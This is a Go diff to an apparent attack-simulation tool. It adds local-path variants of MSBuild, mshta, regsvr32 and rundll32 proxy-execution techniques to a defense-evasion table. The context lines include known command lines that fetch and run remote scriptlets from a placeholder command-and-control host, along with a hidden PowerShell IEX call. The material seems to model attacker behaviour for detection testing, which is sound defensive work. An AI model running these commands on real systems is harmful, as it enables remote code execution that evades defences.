@@ -110,6 +110,7 @@ var defenseEvasion = []*Technique{
 		script: &script{at: onWindows, variants: []variant{
 			by("project file", under(world.Winword, world.MSBuild, `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Users\Public\build.xml`), connect("", 443, "ssl", 2e3, 400e3)),
 			by("own folder", cmd(world.MSBuild, `MSBuild.exe C:\Users\{user}\AppData\Local\Temp\b.csproj`), connect("", 443, "ssl", 2e3, 400e3)),
+			by("among the sources", cmd(world.MSBuild, `MSBuild.exe C:\Users\{user}\source\repos\Tools\Tools.csproj /t:Build /v:m`), connect("", 443, "ssl", 2e3, 400e3)),
 		}},
 	},
 	{
@@ -143,6 +144,7 @@ var defenseEvasion = []*Technique{
 		script: &script{at: onWindows, variants: []variant{
 			by("inline script", cmd(world.Mshta, `mshta.exe vbscript:Close(Execute("GetObject(""script:https://{c2}/a.sct"")"))`), child(world.PowerShell, `powershell.exe -nop -w hidden -c IEX`), connect("", 443, "ssl", 2e3, 90e3)),
 			by("from the web", cmd(world.Mshta, `mshta.exe http://{c2}/update.hta`), connect("", 80, "http", 2e3, 90e3)),
+			by("kept page", cmd(world.Mshta, `mshta.exe "C:\Users\{user}\AppData\Local\Viewer\about.hta"`), connect("", 443, "ssl", 2e3, 90e3)),
 		}},
 	},
 	{
@@ -159,6 +161,7 @@ var defenseEvasion = []*Technique{
 		script: &script{at: onWindows, variants: []variant{
 			by("squiblydoo", cmd(world.Regsvr32, `regsvr32.exe /s /u /i:http://{c2}/a.sct scrobj.dll`), connect("", 80, "http", 2e3, 20e3)),
 			by("odd folder", cmd(world.Regsvr32, `regsvr32.exe /s C:\Users\{user}\AppData\Local\Temp\a.jpg`)),
+			by("shell extension", cmd(world.Regsvr32, `regsvr32.exe /s "C:\Users\{user}\AppData\Local\Viewer\shellext.dll"`), load(`C:\Users\{user}\AppData\Local\Viewer\shellext.dll`)),
 		}},
 	},
 	{
@@ -168,6 +171,7 @@ var defenseEvasion = []*Technique{
 			by("javascript", cmd(world.Rundll32, `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://{c2}/a.sct")`)),
 			by("ordinal", cmd(world.Rundll32, `rundll32.exe C:\Users\Public\a.dll,#1`)),
 			by("named export", cmd(world.Rundll32, `rundll32.exe C:\ProgramData\Viewer\core.dll,DllRegisterServer`), load(`C:\ProgramData\Viewer\core.dll`)),
+			by("program's folder", cmd(world.Rundll32, `rundll32.exe "C:\Users\{user}\AppData\Local\Viewer\viewcfg.dll",LoadSettings`), load(`C:\Users\{user}\AppData\Local\Viewer\viewcfg.dll`)),
 		}},
 	},
 	{
